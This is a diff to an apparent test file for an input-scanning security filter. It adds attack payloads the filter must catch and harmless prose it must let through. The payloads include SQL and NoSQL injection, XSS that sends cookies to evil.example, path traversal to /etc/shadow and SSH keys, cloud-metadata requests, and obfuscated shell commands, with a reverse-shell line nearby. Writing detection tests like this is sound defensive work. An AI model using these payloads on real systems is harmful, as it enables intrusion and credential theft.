@@ -45,6 +45,7 @@ t.test('SQL injection', async (t) => {
     '\' and exists(select * from users)--', '\' or 1 in (select 1)--', '\' or \'\'-\'', '\' or \'\'^\'', '1 AND 5=6',
     '1 and user_name() = \'dbo\'', '1 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))', '\') or true--',
     '1 procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)', 'admin")) or (("1"="1',
+    '\', $or: [ {}, { \'a\':\'a', 'true, $where: \'sleep(100)\'', 'db.accounts.find({})', '1; return this.role == \'admin\'; sleep(500)', '\' union select -1,user()--', '" UNION ALL SELECT ~0, table_name FROM x--',
   ])
 })
 
@@ -85,6 +86,9 @@ t.test('XSS', async (t) => {
     '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', '<base href="//evil.example/">',
     '<x onpointerenter=alert(1)>hover</x>', '<form action="javascript:alert(1)"><button>go</button></form>',
     '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', 'x" style="behavior:url(#default#time2)" onbegin="alert(1)',
+    'prompt.call(window, document.domain)', 'confirm.apply(this,[document.domain])', '(prompt)(7)', 'alert?.(origin)',
+    'top[\'con\'+\'firm\'](7)', 'self[atob(\'YWxlcnQ=\')](1)', 'Function(\'\\x63onfirm(7)\')()', '[7].some(confirm(7))',
+    'x"+onfocus=prompt(7)+autofocus+x="', 'new Image().src=\'//evil.example/?c=\'+document[\'cookie\']',
   ])
 })
 
@@ -96,6 +100,8 @@ t.test('text with angle brackets, quotes and HTML without active content passes'
     '<ul><li>one</li><li>two</li></ul>', 'x = y + z; print(x)', 'He said, "on Monday" — then left', 'Confirm (yes/no)',
     'The data: text/html is fine', 'Event: online = true', '<img src="/static/cat.png" alt="a cat">', 'Styles: bold, italic',
     'I\'m going on a trip; once=enough', 'document the cookie policy', '<br/> line break',
+    'JavaScript: Basics of the Language', 'javascript: a beginner\'s guide', 'Function (math): f(x) = 2x', 'window [left] (open)',
+    'call me (please)', 'Alert: the call is at 5', 'top [10] (list)', 'window[0] (first)', 'this[x] (see note)', 'The C++ FAQ', 'x+y+z', 'one + two = three',
   ])
 })
 
@@ -105,7 +111,7 @@ t.test('path traversal and file inclusion', async (t) => {
     '..\\..\\..\\windows\\win.ini', '/etc/shadow', 'php://filter/convert.base64-encode/resource=index.php', 'file:///etc/passwd',
     'http://evil.example/shell.txt?', '..%c0%af..%c0%afetc/hosts', 'expect://id', 'phar://uploads/x.jpg/shell',
     '/proc/self/environ', 'C:\\Windows\\System32\\drivers\\etc\\hosts', '../../.env', '../../../home/app/.ssh/id_rsa',
-    'zip://archive.zip#shell.php', '/var/log/apache2/access.log', '..;/..;/WEB-INF/web.xml',
+    'zip://archive.zip#shell.php', '/var/log/apache2/access.log', '..;/..;/WEB-INF/web.xml', '/static/../WEB-INF/classes/app.properties',
     'http://169.254.169.254/latest/meta-data/iam/security-credentials/', 'gopher://127.0.0.1:6379/_FLUSHALL',
     'http://metadata.google.internal/computeMetadata/v1/instance/',
   ])
@@ -130,6 +136,8 @@ t.test('OS command injection', async (t) => {
     '; nc -e /bin/sh 10.0.0.1 4444', '() { :; }; /bin/bash -c \'id\'', 'x\nuname -a', 'x; sleep 10', 'a|/usr/bin/id',
     'foo && curl http://evil.example/x | bash', '1;python3 -c \'import os\'', '$(curl -s evil.example)', 'x; echo $PATH',
     '& net user hacker P4ss /add', 'a; rm -rf /tmp/x', '; perl -e \'print 1\'', 'x|certutil -urlcache -f http://evil/x.exe x.exe',
+    ';/???/??t /???/??ss??', '| cat /e?c/sha*', '& /b?n/c?t /etc/hosts', ';cat$x /etc$x/shadow$x', '$(printf \'di\'|rev)',
+    '; cat /etc/sh\u2019ad\u2019ow', '127.0.0.1 && ls /var', '& $z id', '|| set /a 6*7',
   ])
 })
 
@@ -140,6 +148,8 @@ t.test('separators and command names in prose pass', async (t) => {
     'Skills: Java & Python', 'Q&A | Help', 'Run `git status` to check', 'function () { return 1 }', 'A; B; C',
     'I\'d like tea', 'who we are', 'id: 12345', 'type: text', 'more info | less noise', 'Price: $5 (USD)', '${name} is a placeholder',
     'echo chamber; the film', 'R&D; find out more', 'Net user growth',
+    'What? Really?!', 'see /api/v1/items?page=2 and /api/v2/*', 'match *.txt and /docs/*.md', '5 * 3 = 15', 'a/b?c=d',
+    'files under /*/* are listed', 'Cost: $5 per item; $x is a variable', 'It\u2019s a book\u2019s title',
   ])
   const textarea = inBody(pl1, 'application/x-www-form-urlencoded', `notes=${encodeURIComponent('Columns;\nid\nname\nemail')}`)
   t.equal(textarea.score, 0, `a textarea may list "id" on a line of its own: ${explain(textarea)}`)
@@ -158,6 +168,9 @@ t.test('code injection', async (t) => {
     '<%= system("id") %>', '{% import os %}', 'x|attr("__class__")', 'file_put_contents(\'x.php\', $x)',
     '*)(uid=*))(|(uid=*', 'admin*)((|userpassword=*)', '<!--#include virtual="/etc/passwd"-->',
     '{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start"}',
+    '<#assign cmd="freemarker.template.utility.Execute"?new()>${cmd("id")}', '<!DOCTYPE r SYSTEM "http://evil.example/r.dtd"><r/>',
+    '*(|(mail=*))', '(&(cn=admin)(!(&(1=0)(pwd=x))))', 'subject\r\nRCPT TO: <eve@evil.example>', 'x\nA001 FETCH 1:* (BODY[])',
+    'news\r\nBcc: all@evil.example', 'cn:1.2.840.113556.1.4.803:=2',
   ])
 })
 
@@ -167,6 +180,8 @@ t.test('templates, placeholders and code words in prose pass', async (t) => {
     'Ask me anything: what\'s 7*7?', 'The system (which is old) works', 'include the header (optional)', 'eval is evil',
     'prototype design', 'The constructor is called once', 'class A { constructor () {} }', 'Request your refund',
     '<?xml version="1.0" encoding="UTF-8"?><note>hi</note>', '<!DOCTYPE html>', 'O:8 ratio', 'rO0', 'import os',
+    '(a|(b=c))', 'Sort by (date|name)', '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN">', 'assign a new() owner',
+    'quit smoking', 'To: the team, from: me',
   ])
 })
 
